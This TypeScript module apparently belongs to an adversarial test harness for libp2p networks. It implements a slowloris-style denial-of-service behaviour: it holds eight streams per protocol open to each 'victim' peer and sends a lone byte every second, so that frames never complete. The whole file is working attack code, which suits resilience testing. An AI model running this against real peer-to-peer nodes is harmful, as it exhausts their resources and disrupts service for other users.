/** Opens streams of every protocol and says one byte now and then, so that each looks alive and none ends. */

import type { Stream } from '@libp2p/interface'
import { type Behaviour, keepDoing, meet, openStream, PROTOCOLS } from './behaviour.ts'

const INTERVAL_MS = 1000
/** For each victim, of each protocol. */
const STREAMS = 8

export const slowloris: Behaviour = async attack => {
  const { peer, signal } = attack
  const held = new Map<string, Stream[]>()
  await keepDoing(attack, INTERVAL_MS, async victim => {
    const connection = await meet(attack, victim, () => peer.sealed({ capabilities: [] }))
    for (const protocol of PROTOCOLS) {
      const key = `${victim.peerId} ${protocol}`
      const alive = (held.get(key) ?? []).filter(({ status }) => status === 'open')
      if (alive.length < STREAMS) {
        await openStream(connection, protocol, signal).then(
          stream => alive.push(stream),
          () => {}
        )
      }
      held.set(key, alive)
      // The beginning of a frame whose end never comes.
      for (const stream of alive) if (stream.status === 'open') stream.send(Uint8Array.of(0x7f))
    }
  })
}
